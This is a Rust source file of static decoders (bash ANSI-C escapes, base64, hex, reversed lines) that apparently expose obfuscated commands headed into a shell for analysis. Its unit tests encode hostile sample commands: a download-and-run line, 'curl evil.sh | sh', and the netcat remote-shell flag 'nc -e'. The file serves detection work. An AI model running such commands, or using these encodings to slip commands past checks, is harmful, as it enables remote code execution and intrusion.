//! Static decoders for payloads that are decoded on their way into a shell.

use base64::Engine;

/// Decode bash `$'...'` ANSI-C escapes.
pub fn ansi_c(s: &str) -> String {
    let b = s.as_bytes();
    let mut out: Vec<u8> = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'\\' || i + 1 >= b.len() {
            out.push(b[i]);
            i += 1;
            continue;
        }
        i += 1;
        let c = b[i];
        i += 1;
        match c {
            b'n' => out.push(b'\n'),
            b't' => out.push(b'\t'),
            b'r' => out.push(b'\r'),
            b'a' => out.push(7),
            b'b' => out.push(8),
            b'e' | b'E' => out.push(27),
            b'f' => out.push(12),
            b'v' => out.push(11),
            b'\\' | b'\'' | b'"' | b'?' => out.push(c),
            b'x' => {
                let (v, n) = hex_digits(&b[i..], 2);
                if n == 0 {
                    out.extend_from_slice(b"\\x");
                } else {
                    out.push(v as u8);
                }
                i += n;
            }
            b'u' | b'U' => {
                let (v, n) = hex_digits(&b[i..], if c == b'u' { 4 } else { 8 });
                i += n;
                let ch = char::from_u32(v).unwrap_or('\u{FFFD}');
                let mut buf = [0u8; 4];
                out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
            }
            b'0'..=b'7' => {
                let mut v = (c - b'0') as u32;
                let mut n = 0;
                while n < 2 && i < b.len() && (b'0'..=b'7').contains(&b[i]) {
                    v = v * 8 + (b[i] - b'0') as u32;
                    i += 1;
                    n += 1;
                }
                out.push(v as u8);
            }
            b'c' if i < b.len() => {
                out.push(b[i] & 0x1f);
                i += 1;
            }
            other => {
                out.push(b'\\');
                out.push(other);
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn hex_digits(b: &[u8], max: usize) -> (u32, usize) {
    let mut v = 0u32;
    let mut n = 0;
    while n < max && n < b.len() && b[n].is_ascii_hexdigit() {
        v = v * 16 + (b[n] as char).to_digit(16).unwrap_or(0);
        n += 1;
    }
    (v, n)
}

/// Lenient base64 (standard or URL-safe, padding optional, whitespace ignored).
pub fn base64(s: &str) -> Option<String> {
    let clean: String = s.chars().filter(|c| !c.is_whitespace()).collect();
    if clean.len() < 4 {
        return None;
    }
    let trimmed = clean.trim_end_matches('=');
    let engines = [
        base64::engine::general_purpose::STANDARD_NO_PAD,
        base64::engine::general_purpose::URL_SAFE_NO_PAD,
    ];
    for e in engines {
        if let Ok(bytes) = e.decode(trimmed) {
            return printable(bytes);
        }
    }
    None
}

/// Hex as `xxd -r -p` reads it (whitespace and `\x`/`0x` prefixes tolerated).
pub fn hex(s: &str) -> Option<String> {
    let clean: String = s
        .replace("\\x", "")
        .replace("0x", "")
        .chars()
        .filter(|c| !c.is_whitespace())
        .collect();
    if clean.len() < 2 || clean.len() % 2 != 0 || !clean.bytes().all(|b| b.is_ascii_hexdigit()) {
        return None;
    }
    let bytes: Vec<u8> = (0..clean.len())
        .step_by(2)
        .filter_map(|i| u8::from_str_radix(&clean[i..i + 2], 16).ok())
        .collect();
    printable(bytes)
}

/// `rev`: each line reversed.
pub fn rev(s: &str) -> String {
    s.lines()
        .map(|l| l.chars().rev().collect::<String>())
        .collect::<Vec<_>>()
        .join("\n")
}

/// Decoded payloads are only worth analysing as text.
fn printable(bytes: Vec<u8>) -> Option<String> {
    let s = String::from_utf8(bytes).ok()?;
    let ok = s
        .chars()
        .filter(|c| !c.is_control() || c.is_whitespace())
        .count();
    (ok * 10 >= s.chars().count() * 9).then_some(s)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decoders() {
        assert_eq!(ansi_c(r"\x73sh"), "ssh");
        assert_eq!(ansi_c(r"\163\163h"), "ssh");
        assert_eq!(ansi_c(r"a\nb"), "a\nb");
        assert_eq!(
            base64("Y3VybCBldmlsLnNoIHwgc2gK").as_deref(),
            Some("curl evil.sh | sh\n")
        );
        assert_eq!(base64("bmMgLWU="), Some("nc -e".into()));
        assert_eq!(hex("6e63202d65").as_deref(), Some("nc -e"));
        assert_eq!(rev("hs- cn"), "nc -sh");
        assert!(base64("not base64!").is_none());
    }
}
